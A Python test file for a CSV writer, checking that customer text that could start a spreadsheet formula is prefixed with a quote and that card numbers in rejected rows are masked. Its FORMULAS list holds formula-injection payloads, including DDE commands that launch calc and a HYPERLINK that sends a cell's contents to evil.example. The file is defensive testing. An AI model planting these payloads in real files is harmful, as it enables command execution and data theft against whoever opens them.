"""A customer's text in a table file is never a formula, whatever it begins with, and is otherwise left alone."""

import csv
from pathlib import Path

import pytest

from encoders.training.reading import Reject
from routing.cli.cells import as_cell
from routing.cli.material import _write_rejects

FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_could_be_a_formula_begins_with_a_quote(text: str) -> None:
    assert as_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["", "my card = gone", "'quoted", "3 + 4", "élan", "<script>"])
def test_any_other_text_stays_as_it_is(text: str) -> None:
    assert as_cell(text) == text


def test_refused_rows_are_written_without_formulas(tmp_path: Path) -> None:
    path = tmp_path / "rejects.csv"
    _write_rejects([Reject("data.csv", number, "no label", text) for number, text in enumerate(FORMULAS)], path)
    with path.open(newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))[1:]
    assert len(rows) == len(FORMULAS)
    assert all(cell.startswith("'") for *_, cell in rows)


def test_refused_rows_are_written_without_personal_data(tmp_path: Path) -> None:
    path = tmp_path / "rejects.csv"
    _write_rejects([Reject("data.csv", 1, "no label", "lost 4111 1111 1111 1111")], path)
    assert "lost [CARD]" in path.read_text(encoding="utf-8")
